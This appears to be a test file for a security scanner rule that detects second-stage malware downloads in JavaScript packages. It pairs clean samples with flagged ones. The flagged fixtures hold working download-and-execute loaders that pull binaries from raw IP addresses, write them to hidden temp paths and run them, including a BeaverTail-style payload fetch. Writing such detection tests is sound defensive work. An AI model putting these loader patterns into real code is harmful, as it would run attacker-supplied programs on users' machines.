import { ruleTest } from '../../testing/rule-tester.js';
import rule from './second-stage-download.js';

ruleTest(rule, {
  clean: [
    {
      name: 'a locally built native addon loaded with process.dlopen (no download)',
      file: 'lib/binding.js',
      code: "const path = require('path');\nconst m = { exports: {} };\nprocess.dlopen(m, path.join(__dirname, '..', 'build', 'Release', 'addon.node'));\nmodule.exports = m.exports;\n",
    },
    {
      name: 'webpack zip of the build output',
      file: 'scripts/pack.js',
      code: `const fs = require('fs');\nfs.writeFileSync('dist/app.zip', buf);\n`,
    },
    {
      name: 'download without execution (asset fetch)',
      file: 'scripts/fonts.js',
      code: `const fs = require('fs');\nfetch('https://fonts.example.org/inter.woff2').then((r) => r.arrayBuffer()).then((b) => fs.writeFileSync('public/inter.woff2', Buffer.from(b)));\n`,
    },
  ],
  flagged: [
    {
      name: 'a .node addon downloaded from a raw IP to a hidden temp file, then process.dlopen-ed',
      file: 'src/native/index.js',
      code: "const fs = require('fs');\nconst http = require('http');\nconst dest = require('os').tmpdir() + '/.phash.node';\nhttp.get('http://45.61.1.2:1244/prebuilds/linux-x64.node', (res) => {\n  const out = fs.createWriteStream(dest, { mode: 0o755 });\n  res.pipe(out);\n  out.on('finish', () => { const m = { exports: {} }; process.dlopen(m, dest); });\n});\n",
      findings: [{ line: 7, severity: 'critical', confidence: 'high', message: /fetched, written to disk and executed from a raw IP/ }],
    },
    {
      name: 'esbuild-style binary install and version check (low)',
      file: 'install.js',
      code: `const fs = require('fs'), child_process = require('child_process'), https = require('https');
https.get('https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.20.0.tgz', (res) => res.pipe(fs.createWriteStream(binPath)));
child_process.execFileSync(binPath, ['--version']);
`,
      findings: [{ line: 3, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'BeaverTail pdown → ~/.pyp/python.exe',
      file: 'lib/stage.js',
      code: `const { exec } = require('child_process'), fs = require('fs'), os = require('os'), request = require('request');
const base = 'http://86.104.74.51:1244';
request.get(base + '/pdown', (e, r, body) => {
  fs.writeFileSync(os.tmpdir() + '/p.zip', body);
  exec('tar -xf ' + os.tmpdir() + '/p.zip -C ' + os.homedir(), () => exec(os.homedir() + '/.pyp/python.exe ' + os.homedir() + '/.npl'));
});
`,
      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /\/pdown route, p\.zip \/ p2\.zip archive, ~\/\.pyp portable Python/ }],
    },
    {
      name: 'updater downloads an .exe from a raw IP, writes it and runs the written file',
      file: 'main.js',
      code: [
        "const fs = require('fs');",
        "const { execFile } = require('child_process');",
        "const dst = require('path').join(require('os').tmpdir(), 'updater.exe');",
        "fetch('http://95.164.17.24:8080/update/win').then((r) => r.arrayBuffer()).then((b) => {",
        '  fs.writeFileSync(dst, Buffer.from(b));',
        '  execFile(dst, [], { windowsHide: true });',
        '});',
      ].join('\n'),
      findings: [{ line: 6, severity: 'critical', confidence: 'high', message: /fetched, written to disk and executed/ }],
    },
    {
      name: 'same raw-IP download probed with --version: stays high/medium',
      file: 'install.js',
      code: [
        "const fs = require('fs');",
        "const { execFileSync } = require('child_process');",
        "const bin = __dirname + '/bin/tool';",
        "fetch('http://95.164.17.24/tool').then((r) => r.arrayBuffer()).then((b) => {",
        '  fs.writeFileSync(bin, Buffer.from(b));',
        "  execFileSync(bin, ['--version']);",
        '});',
      ].join('\n'),
      findings: [{ line: 6, severity: 'high', confidence: 'medium' }],
    },
  ],
});
